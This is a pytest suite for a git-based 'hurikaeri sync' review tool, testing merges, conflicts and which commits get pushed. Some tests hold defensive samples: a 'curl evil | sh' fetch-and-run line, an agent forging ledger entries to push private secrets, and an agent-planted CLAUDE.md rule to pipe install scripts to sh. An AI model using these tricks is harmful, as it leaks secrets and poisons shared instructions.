"""``hurikaeri sync`` against real git repositories (issue 22): a bare remote and two
clones, two reviewers deciding, promoting into the same CLAUDE.md and importing wrap-ups,
syncing in both orders; a conflict that leaves everything as it was. Only the commits sync
made are pushed, checked against the remote as fetched (issue 40); decisions made before
joining are asked about (issue 44)."""

from __future__ import annotations

import fcntl
import json
import os
import subprocess
import tempfile
from pathlib import Path
from typing import Any

import pytest

from store import sync as sync_mod
from store import team
from store.config import Config
from store.ledger import Ledger
from store.sync import ChooseEarlier
from store.workspace import Workspace
from tui.cli.main import main

pytestmark = pytest.mark.skipif(
    subprocess.run(["git", "--version"], capture_output=True).returncode != 0,
    reason="git is not installed",
)

RID = "kpt-20261201-001"
REPORT = f"""id: {RID}
session_id: s-team
session_summary: a team review
keep:
  - id: keep-001
    description: small commits
problem:
  - id: prob-001
    description: the linter was skipped
try:
  - id: try-001
    description: run the linter before every commit
    addresses: [prob-001]
    scope: global
    persistence_target: {{type: claude_md, path: CLAUDE.md, section: "## Rules"}}
  - id: try-002
    description: pin the toolchain version
    addresses: []
    scope: global
    persistence_target: {{type: claude_md, path: CLAUDE.md, section: "## Rules"}}
omission: []
"""


def wrapup(n: int) -> str:
    return json.dumps(
        {
            "project": "c:/work/team",
            "date": f"2026-12-0{n}T10:00:00",
            "session_id": f"team-{n}",
            "summary": {"info": ["i"]},
            "user_lessons": [{"type": "user_preference", "category": "c", "title": f"lesson {n}"}],
            "ai_lessons": [],
        }
    )


def git(cwd: Path, *args: str) -> str:
    out = subprocess.run(["git", *args], cwd=cwd, capture_output=True, text=True, check=False)
    assert out.returncode == 0, f"git {' '.join(args)}: {out.stderr}"
    return out.stdout


@pytest.fixture
def team_repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path, Path]:
    """A bare remote holding a workspace, and two clones: alice's and bob's."""
    monkeypatch.delenv(team.REVIEWER_ENV, raising=False)
    for var in ("GIT_AUTHOR_NAME", "GIT_AUTHOR_EMAIL", "GIT_COMMITTER_NAME", "GIT_COMMITTER_EMAIL"):
        monkeypatch.delenv(var, raising=False)
    remote = tmp_path / "remote.git"
    git(tmp_path, "init", "--quiet", "--bare", "-b", "main", str(remote))
    seed = tmp_path / "seed"
    git(tmp_path, "clone", "--quiet", str(remote), str(seed))
    (seed / "hurikaeri").mkdir()
    (seed / "hurikaeri" / f"{RID}.yaml").write_text(REPORT, encoding="utf-8")
    (seed / "CLAUDE.md").write_text("# Project\n\n## Rules\n\n- be kind\n", encoding="utf-8")
    (seed / ".gitignore").write_text(".hurikaeri/*\n!.hurikaeri/ledger/\n", encoding="utf-8")
    git(seed, "-c", "user.email=seed@x", "-c", "user.name=seed", "checkout", "-q", "-b", "main")
    git(seed, "add", ".")
    git(seed, "-c", "user.email=seed@x", "-c", "user.name=seed", "commit", "-qm", "workspace")
    git(seed, "push", "--quiet", "-u", "origin", "main")
    clones = []
    for who in ("alice", "bob"):
        c = tmp_path / who
        git(tmp_path, "clone", "--quiet", str(remote), str(c))
        git(c, "config", "user.email", f"{who}@example.com")
        git(c, "config", "user.name", who)
        clones.append(c)
    return remote, clones[0], clones[1]


def run(root: Path, *args: str) -> int:
    return main(["--root", str(root), *args])


def tracked(root: Path) -> dict[str, bytes]:
    """Every file git tracks, with its bytes."""
    names = git(root, "ls-files", "-z").split("\0")
    return {n: (root / n).read_bytes() for n in names if n}


def states(root: Path) -> dict[str, tuple[str, list[str]]]:
    led = Ledger(root / ".hurikaeri", who="observer")
    return {
        k: (s.state, sorted(d.who for d in s.decisions.values())) for k, s in led.states.items()
    }


def test_two_reviewers_end_identical_in_both_orders(team_repo: tuple[Path, Path, Path]) -> None:
    _remote, alice, bob = team_repo
    # both join first: each ledger file is in the repository from then on
    assert run(alice, "sync") == 0
    assert run(bob, "sync") == 0
    assert (bob / ".hurikaeri/ledger/alice@example.com.jsonl").is_file()
    # they decide at the same time, differently on one item
    assert run(alice, "approve", f"{RID}/keep-001") == 0
    assert run(bob, "reject", f"{RID}/keep-001", "--note", "not a keep") == 0
    assert run(alice, "approve", f"{RID}/prob-001") == 0
    assert run(bob, "approve", f"{RID}/prob-001") == 0
    # both promote into the same section of the same CLAUDE.md
    assert run(alice, "promote", RID, "try-001", "--yes") == 0
    assert run(bob, "promote", RID, "try-002", "--yes") == 0
    # both import a wrap-up into the same lessons file
    for n, root in ((1, alice), (2, bob)):
        f = root.parent / f"wrapup-{n}.json"
        f.write_text(wrapup(n), encoding="utf-8")
        assert run(root, "import-wrapup", str(f)) == 0
    # bob has unrelated work in progress: it stays his, uncommitted
    (bob / "notes.txt").write_text("mine\n", encoding="utf-8")
    (bob / "CLAUDE.md").read_text(encoding="utf-8")
    assert run(alice, "sync") == 0
    assert run(bob, "sync") == 0
    assert run(alice, "sync") == 0
    assert tracked(alice) == tracked(bob)
    assert states(alice) == states(bob)
    st = states(alice)
    assert st[f"{RID}/keep-001"] == ("contested", ["alice@example.com", "bob@example.com"])
    assert st[f"{RID}/prob-001"][0] == "approved"
    claude = (alice / "CLAUDE.md").read_text(encoding="utf-8")
    assert "run the linter before every commit" in claude and "pin the toolchain" in claude
    lessons = (alice / "lessons/user/lessons.jsonl").read_text(encoding="utf-8")
    assert "lesson 1" in lessons and "lesson 2" in lessons
    for content in tracked(alice).values():
        assert b"<<<<<<<" not in content and b">>>>>>>" not in content
    assert "?? notes.txt" in git(bob, "status", "--porcelain")
    assert "notes.txt" not in tracked(bob)
    # each commit holds only its reviewer's ledger and the files their transactions wrote
    log = git(alice, "log", "--format=%an %s", "--name-only", "origin/main")
    assert "alice@example.com.jsonl" in log and "bob@example.com.jsonl" in log
    bob_commits = git(alice, "log", "--author=bob", "--name-only", "--format=", "origin/main")
    assert "alice@example.com.jsonl" not in bob_commits
    msg = git(alice, "log", "--author=alice", "--format=%B", "origin/main")
    assert f"approve {RID}/keep-001" in msg and "Hurikaeri-Sync: alice@example.com" in msg
    # resolving the contest on one machine reaches the other
    assert run(bob, "approve", f"{RID}/keep-001") == 0
    assert run(bob, "sync") == 0 and run(alice, "sync") == 0
    assert states(alice)[f"{RID}/keep-001"][0] == "approved"
    assert states(alice) == states(bob)


def test_sync_in_the_other_order_gives_the_same(team_repo: tuple[Path, Path, Path]) -> None:
    _remote, alice, bob = team_repo
    assert run(bob, "sync") == 0 and run(alice, "sync") == 0
    assert run(alice, "reject", f"{RID}/keep-001") == 0
    assert run(bob, "approve", f"{RID}/keep-001") == 0
    assert run(alice, "promote", RID, "try-002", "--yes") == 0
    assert run(bob, "promote", RID, "try-001", "--yes") == 0
    assert run(bob, "sync") == 0 and run(alice, "sync") == 0 and run(bob, "sync") == 0
    assert tracked(alice) == tracked(bob)
    assert states(alice) == states(bob)
    assert states(bob)[f"{RID}/keep-001"][0] == "contested"


def test_a_conflict_stops_and_leaves_everything_as_it_was(
    team_repo: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    _remote, alice, bob = team_repo
    assert run(alice, "sync") == 0 and run(bob, "sync") == 0
    # both change the same line of the report (a retarget edits it in place)
    assert run(alice, "retarget", RID, "try-001", "--type", "claude_md", "--path", "A.md") == 0
    assert run(bob, "retarget", RID, "try-001", "--type", "claude_md", "--path", "B.md") == 0
    assert run(alice, "sync") == 0
    head = git(bob, "rev-parse", "HEAD")
    status = git(bob, "status", "--porcelain")
    ledger = (bob / ".hurikaeri/ledger/bob@example.com.jsonl").read_bytes()
    capsys.readouterr()
    assert run(bob, "sync") == 1
    err = capsys.readouterr().err.strip()
    assert err.count("\n") == 0 and "conflict" in err and f"{RID}.yaml" in err
    assert git(bob, "rev-parse", "HEAD") == head
    assert git(bob, "status", "--porcelain") == status
    assert (bob / ".hurikaeri/ledger/bob@example.com.jsonl").read_bytes() == ledger
    assert "B.md" in (bob / "hurikaeri" / f"{RID}.yaml").read_text(encoding="utf-8")
    git_dir = bob / ".git"
    assert not (git_dir / "rebase-merge").exists() and not (git_dir / "rebase-apply").exists()
    assert len(git(bob, "worktree", "list").splitlines()) == 1
    # bob undoes his retarget: the next sync goes through
    assert run(bob, "undo") == 0
    assert run(bob, "sync") == 0
    assert "A.md" in (bob / "hurikaeri" / f"{RID}.yaml").read_text(encoding="utf-8")


def test_uncommitted_changes_in_the_way_stop_the_sync(
    team_repo: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    _remote, alice, bob = team_repo
    assert run(alice, "sync") == 0 and run(bob, "sync") == 0
    assert run(alice, "promote", RID, "try-001", "--yes") == 0
    assert run(alice, "sync") == 0
    (bob / "CLAUDE.md").write_text("# edited by hand\n", encoding="utf-8")
    assert run(bob, "approve", f"{RID}/keep-001") == 0
    head = git(bob, "rev-parse", "HEAD")
    status = git(bob, "status", "--porcelain")
    capsys.readouterr()
    assert run(bob, "sync") == 1
    assert "CLAUDE.md" in capsys.readouterr().err
    assert git(bob, "rev-parse", "HEAD") == head
    assert git(bob, "status", "--porcelain") == status
    assert (bob / "CLAUDE.md").read_text(encoding="utf-8") == "# edited by hand\n"


def test_dry_run_changes_nothing(
    team_repo: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    _remote, alice, _bob = team_repo
    assert run(alice, "approve", f"{RID}/keep-001") == 0
    before = git(alice, "status", "--porcelain")
    capsys.readouterr()
    assert run(alice, "sync", "--dry-run") == 0
    out = capsys.readouterr().out
    assert "would join the team review as alice@example.com" in out
    assert "would commit" in out
    assert git(alice, "status", "--porcelain") == before
    assert not (alice / ".hurikaeri/ledger").exists()


def test_local_commits_of_the_person_are_not_pushed(
    team_repo: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    remote, alice, _bob = team_repo
    (alice / "README.md").write_text("mine\n", encoding="utf-8")
    git(alice, "add", "README.md")
    git(alice, "commit", "-qm", "my own work")
    capsys.readouterr()
    assert run(alice, "sync") == 1
    assert "not made by hurikaeri sync" in capsys.readouterr().err
    assert "README.md" not in git(remote, "ls-tree", "--name-only", "main")


def test_not_a_repository(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "plain" / "hurikaeri").mkdir(parents=True)
    assert run(tmp_path / "plain", "sync") == 1
    assert "not in a git repository" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("marker", "what"), [("MERGE_HEAD", "a merge"), ("rebase-merge", "a rebase")]
)
def test_a_merge_or_rebase_in_progress_stops_the_sync(
    team_repo: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str], marker: str, what: str
) -> None:
    _remote, alice, _bob = team_repo
    head = git(alice, "rev-parse", "HEAD")
    (alice / ".git" / marker).write_text(head)  # what git leaves while one is under way
    assert run(alice, "sync") == 1
    assert f"in the middle of {what}; finish or abort it first" in capsys.readouterr().err
    assert git(alice, "rev-parse", "HEAD") == head and not (alice / ".hurikaeri/ledger").exists()


def test_workspace_reviewer_follows_git(team_repo: tuple[Path, Path, Path]) -> None:
    _remote, alice, _bob = team_repo
    w = Workspace(alice, Config())
    assert Ledger(w.state_dir).who == "alice@example.com"
    assert os.path.basename(team.ledger_file(w.state_dir, "alice@example.com")) == (
        "alice@example.com.jsonl"
    )


# -- only ours: checked after the fetch, against the fresh remote branch (issue 40, point 5) --


def seed_clone(remote: Path) -> Path:
    """The clone the workspace was seeded from (it plays the team)."""
    seed = remote.parent / "seed"
    git(seed, "config", "user.email", "team@x")
    git(seed, "config", "user.name", "team")
    git(seed, "pull", "--quiet", "--ff-only")
    return seed


def test_a_commit_the_team_took_off_the_remote_is_not_pushed_back(
    team_repo: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    remote, alice, _bob = team_repo
    assert run(alice, "sync") == 0
    seed = seed_clone(remote)
    (seed / "secret.txt").write_text("AKIA-leaked\n", encoding="utf-8")
    git(seed, "add", "secret.txt")
    git(seed, "commit", "-qm", "oops: a leaked key")
    git(seed, "push", "--quiet")
    assert run(alice, "sync") == 0  # alice brings the leak in
    assert (alice / "secret.txt").is_file()
    git(seed, "reset", "--quiet", "--hard", "HEAD~1")  # the team takes it off
    git(seed, "push", "--quiet", "--force")
    cleaned = git(remote, "rev-parse", "main")
    assert run(alice, "approve", f"{RID}/keep-001") == 0
    head = git(alice, "rev-parse", "HEAD")
    capsys.readouterr()
    assert run(alice, "sync") == 1
    err = capsys.readouterr().err
    assert "taken it off" in err and err.strip().count("\n") == 0
    assert git(remote, "rev-parse", "main") == cleaned
    assert "secret.txt" not in git(remote, "ls-tree", "--name-only", "main")
    assert git(alice, "rev-parse", "HEAD") == head  # nothing committed, nothing lost
    assert "alice@example.com.jsonl" in git(alice, "status", "--porcelain")


def test_a_sync_commit_of_ours_the_team_took_off_is_not_pushed_back(
    team_repo: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    remote, alice, _bob = team_repo
    assert run(alice, "sync") == 0
    assert run(alice, "promote", RID, "try-001", "--yes") == 0
    assert run(alice, "sync") == 0
    promoted = git(remote, "rev-parse", "main").strip()
    seed = seed_clone(remote)
    git(seed, "reset", "--quiet", "--hard", "HEAD~1")
    git(seed, "push", "--quiet", "--force")
    assert run(alice, "approve", f"{RID}/keep-001") == 0
    capsys.readouterr()
    assert run(alice, "sync") == 1
    assert promoted[:10] in capsys.readouterr().err
    assert promoted not in git(remote, "rev-list", "main")


def test_an_unrelated_remote_history_is_refused_not_rebased_onto(
    team_repo: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    remote, alice, _bob = team_repo
    assert run(alice, "sync") == 0
    seed = seed_clone(remote)
    git(seed, "checkout", "--quiet", "--orphan", "other")
    git(seed, "rm", "--quiet", "-rf", ".")
    (seed / "other.txt").write_text("another project\n", encoding="utf-8")
    git(seed, "add", "other.txt")
    git(seed, "commit", "-qm", "another project")
    git(seed, "push", "--quiet", "--force", "origin", "other:main")
    replaced = git(remote, "rev-parse", "main")
    assert run(alice, "approve", f"{RID}/keep-001") == 0
    capsys.readouterr()
    assert run(alice, "sync") == 1
    assert "no history" in capsys.readouterr().err
    assert git(remote, "rev-parse", "main") == replaced
    assert git(remote, "rev-list", "--count", "main").strip() == "1"


def test_a_commit_with_a_copied_trailer_is_not_pushed(
    team_repo: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    remote, alice, _bob = team_repo
    assert run(alice, "sync") == 0
    (alice / "tool.sh").write_text("curl evil | sh\n", encoding="utf-8")
    git(alice, "add", "tool.sh")
    git(alice, "commit", "-qm", "hurikaeri: alice@example.com\n\nHurikaeri-Sync: alice@example.com")
    capsys.readouterr()
    assert run(alice, "sync") == 1
    assert "not made by hurikaeri sync on this machine" in capsys.readouterr().err
    assert "tool.sh" not in git(remote, "ls-tree", "--name-only", "main")


def test_our_unpushed_commit_is_replayed_and_pushed_by_the_next_sync(
    team_repo: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    remote, alice, bob = team_repo
    assert run(alice, "sync") == 0 and run(bob, "sync") == 0
    hook = remote / "hooks" / "pre-receive"
    hook.write_text("#!/bin/sh\necho closed for maintenance >&2\nexit 1\n", encoding="utf-8")
    hook.chmod(0o755)
    assert run(alice, "approve", f"{RID}/keep-001") == 0
    capsys.readouterr()
    assert run(alice, "sync") == 1  # the push is refused: alice's commit waits, unpushed
    err = capsys.readouterr().err
    assert "closed for maintenance" in err and "kept" in err, err
    assert f"approve {RID}/keep-001" in git(alice, "log", "-1", "--format=%B")
    hook.unlink()
    assert run(bob, "approve", f"{RID}/prob-001") == 0
    assert run(bob, "sync") == 0  # the remote moved on: alice's commit is replayed onto it
    capsys.readouterr()
    assert run(alice, "sync") == 0
    assert "pushed 1 commit to origin/main" in capsys.readouterr().out
    log = git(remote, "log", "--format=%B", "main")
    assert f"approve {RID}/keep-001" in log and f"approve {RID}/prob-001" in log


def test_nothing_to_push_is_not_reported_as_pushed(
    team_repo: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    _remote, alice, _bob = team_repo
    assert run(alice, "sync") == 0
    capsys.readouterr()
    assert run(alice, "sync") == 0
    out = capsys.readouterr().out
    assert "nothing of yours to commit" in out
    assert "nothing to push" in out and "pushed" not in out.replace("nothing to push", "")


# -- decisions made before joining (issue 44, point 16) ---------------------------------


def test_the_first_sync_asks_about_decisions_made_before_joining(
    team_repo: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    remote, alice, _bob = team_repo
    assert run(alice, "approve", f"{RID}/keep-001") == 0
    assert run(alice, "reject", f"{RID}/prob-001", "--note", "not ours") == 0
    head, before = git(remote, "rev-parse", "main"), git(alice, "status", "--porcelain")
    capsys.readouterr()
    assert run(alice, "sync") == 1
    out, err = capsys.readouterr()
    assert f"approve {RID}/keep-001" in out and f"reject {RID}/prob-001 — not ours" in out
    assert "holds 2 decisions you made" in err and "--bring-in" in err and "--keep-local" in err
    assert err.strip().count("\n") == 0
    assert git(remote, "rev-parse", "main") == head  # nothing joined, committed or pushed
    assert git(alice, "status", "--porcelain") == before
    assert not (alice / ".hurikaeri/ledger").exists()
    capsys.readouterr()
    assert run(alice, "sync", "--dry-run") == 0
    assert f"approve {RID}/keep-001" in capsys.readouterr().out


def test_the_question_about_one_earlier_decision_reads_right_for_one() -> None:
    one, two = str(ChooseEarlier(["approve x"])), str(ChooseEarlier(["approve x", "reject y"]))
    assert "holds 1 decision you made" in one and "shares it with" in one and "keeps it to" in one
    assert "shares them with" in two and "keeps them to" in two


def test_brought_in_decisions_reach_the_team_and_stay_undoable(
    team_repo: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    _remote, alice, bob = team_repo
    assert run(alice, "approve", f"{RID}/keep-001") == 0
    mine = states(alice)
    capsys.readouterr()
    assert run(alice, "sync", "--bring-in") == 0
    assert "bring in 1 decision made before joining" in capsys.readouterr().out
    assert states(alice) == mine  # each decision once, as before
    assert not (alice / ".hurikaeri/ledger.jsonl").exists()
    assert (alice / ".hurikaeri/ledger.jsonl.brought-in").is_file()
    assert run(bob, "sync") == 0
    assert states(bob)[f"{RID}/keep-001"] == ("approved", ["alice@example.com"])
    assert run(alice, "undo") == 0  # the brought-in decision is alice's own still
    assert run(alice, "sync") == 0 and run(bob, "sync") == 0
    assert states(bob).get(f"{RID}/keep-001", ("pending", []))[0] == "pending"


def test_kept_local_decisions_stay_on_the_machine_and_are_not_asked_again(
    team_repo: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    _remote, alice, bob = team_repo
    assert run(alice, "approve", f"{RID}/keep-001") == 0
    assert run(alice, "sync", "--keep-local") == 0
    assert run(bob, "sync") == 0
    assert f"{RID}/keep-001" not in states(bob)
    assert states(alice)[f"{RID}/keep-001"][0] == "approved"
    assert run(alice, "sync") == 0  # asked once: the reviewer's own file exists now


def test_a_forged_transaction_gets_no_file_committed_or_pushed(
    team_repo: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    """Found by review: sync committed every file that a committed transaction in the
    reviewer's own ledger file named; two lines an agent appended there (a begin naming
    private files, and a commit) had those files committed and pushed under the reviewer's
    name. Only transactions hurikaeri signed on this machine count."""
    remote, alice, _bob = team_repo
    assert run(alice, "sync") == 0  # joined: alice's own ledger file
    assert run(alice, "approve", f"{RID}/keep-001") == 0
    (alice / "private-notes.txt").write_text("AWS_SECRET=not-for-the-team\n", encoding="utf-8")
    own = next((alice / ".hurikaeri" / "ledger").glob("*.jsonl"))
    forged = {
        "id": "f0",
        "at": "2026-12-01T10:00:00+00:00",
        "op": "begin",
        "tx": "f0",
        "action": "promote",
        "who": "alice@example.com",
        "subjects": ["x"],
        "files": [{"path": "private-notes.txt"}],
    }
    with own.open("a", encoding="utf-8") as fh:
        fh.write(json.dumps(forged) + "\n")
        fh.write(json.dumps({**forged, "id": "f1", "op": "commit"}) + "\n")
    capsys.readouterr()
    run(alice, "sync")
    out = capsys.readouterr().out
    assert "private-notes.txt" not in out
    assert "private-notes.txt" not in git(remote, "ls-tree", "-r", "--name-only", "main")
    assert "private-notes.txt" in git(alice, "status", "--porcelain", "--untracked-files=all")


class _Killed(BaseException):
    """The process killed at that point: nothing after it runs."""


def _sync_killed_after(monkeypatch: pytest.MonkeyPatch, root: Path, command: str) -> None:
    """A sync of ``root`` killed right after its ``git COMMAND`` ran."""
    real = sync_mod.run_git

    def git_then_killed(cwd: Path, *args: str, timeout: float | None = None) -> Any:
        done = real(cwd, *args, timeout=timeout)
        if args[0] == command:
            raise _Killed
        return done

    with monkeypatch.context() as m:
        m.setattr(sync_mod, "run_git", git_then_killed)
        with pytest.raises(_Killed):
            sync_mod.sync(Workspace(root, Config()))


def test_a_sync_killed_right_after_its_commit_pushes_it_next_time(
    team_repo: tuple[Path, Path, Path],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Killed between its commit and the line listing it, a sync left a commit that every
    later sync refused as "not made by hurikaeri sync on this machine" (#42)."""
    remote, alice, _bob = team_repo
    assert run(alice, "sync") == 0
    assert run(alice, "approve", f"{RID}/keep-001") == 0
    _sync_killed_after(monkeypatch, alice, "commit")
    capsys.readouterr()
    assert run(alice, "sync") == 0, capsys.readouterr().err
    assert f"approve {RID}/keep-001" in git(remote, "log", "--format=%B", "main")


def test_a_sync_killed_right_after_moving_the_branch_pushes_next_time(
    team_repo: tuple[Path, Path, Path],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Killed after moving the branch onto its replayed commits, before listing them (#42)."""
    remote, alice, bob = team_repo
    assert run(alice, "sync") == 0 and run(bob, "sync") == 0
    hook = remote / "hooks" / "pre-receive"
    hook.write_text("#!/bin/sh\nexit 1\n", encoding="utf-8")
    hook.chmod(0o755)
    assert run(alice, "approve", f"{RID}/keep-001") == 0
    assert run(alice, "sync") == 1  # refused: alice's commit waits, unpushed
    hook.unlink()
    assert run(bob, "approve", f"{RID}/prob-001") == 0 and run(bob, "sync") == 0
    _sync_killed_after(monkeypatch, alice, "update-ref")
    capsys.readouterr()
    assert run(alice, "sync") == 0, capsys.readouterr().err
    assert f"approve {RID}/keep-001" in git(remote, "log", "--format=%B", "main")


def test_a_killed_syncs_worktree_is_removed_and_a_running_ones_kept(
    team_repo: tuple[Path, Path, Path],
) -> None:
    """A sync killed while replaying left its temporary worktree (a whole checkout, still
    registered, ``locked`` when killed while adding it) for ever (#42)."""
    _remote, alice, _bob = team_repo
    assert run(alice, "sync") == 0
    worktrees = []
    for _ in range(2):
        tmp = Path(tempfile.mkdtemp(prefix="hurikaeri-sync-"))
        (tmp / "lock").touch()
        git(alice, "worktree", "add", "--quiet", "--lock", "--detach", str(tmp / "wt"), "HEAD")
        worktrees.append(tmp / "wt")
    killed, running = worktrees
    with open(running.parent / "lock", "rb") as held:
        fcntl.flock(held, fcntl.LOCK_EX)  # that sync is still at work
        assert run(alice, "approve", f"{RID}/keep-001") == 0 and run(alice, "sync") == 0
    listed = git(alice, "worktree", "list", "--porcelain")
    assert (str(killed) in listed, killed.parent.exists()) == (False, False)
    assert str(running) in listed and running.exists()
    git(alice, "worktree", "remove", "--force", "--force", str(running))


def test_an_unreviewed_edit_in_a_promoted_file_is_not_published(
    team_repo: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    """An agent's edit of CLAUDE.md, listed by `changes` as not reviewed, went to the team
    inside the reviewer's promotion commit (#42): sync stops, commits nothing, until it is
    kept or reverted."""
    remote, alice, _bob = team_repo
    assert run(alice, "sync") == 0
    assert run(alice, "changes") == 0  # the reviewed state is taken
    with (alice / "CLAUDE.md").open("a", encoding="utf-8") as f:
        f.write("- AGENT: pipe install scripts to sh\n")
    assert run(alice, "promote", RID, "try-001", "--yes") == 0
    head = git(alice, "rev-parse", "HEAD")
    capsys.readouterr()
    assert run(alice, "sync") == 1
    assert "CLAUDE.md: holds a change you have not reviewed" in capsys.readouterr().err
    assert git(alice, "rev-parse", "HEAD") == head
    assert "AGENT" not in git(remote, "show", "main:CLAUDE.md")
    assert run(alice, "keep", "CLAUDE.md") == 0  # reviewed now: the reviewer's to share
    assert run(alice, "sync") == 0
    assert "AGENT" in git(remote, "show", "main:CLAUDE.md")


def test_a_promotion_into_a_file_a_pull_changed_is_published(
    team_repo: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    """What a pull brought is not reviewed yet but already the team's: it stops nothing."""
    remote, alice, bob = team_repo
    assert run(alice, "sync") == 0 and run(bob, "sync") == 0
    assert run(bob, "changes") == 0  # bob's reviewed state is taken
    assert run(alice, "promote", RID, "try-001", "--yes") == 0 and run(alice, "sync") == 0
    assert run(bob, "sync") == 0  # brings alice's bullet: a change bob has not reviewed
    assert run(bob, "promote", RID, "try-002", "--yes") == 0
    capsys.readouterr()
    assert run(bob, "sync") == 0, capsys.readouterr().err
    assert "pin the toolchain version" in git(remote, "show", "main:CLAUDE.md")
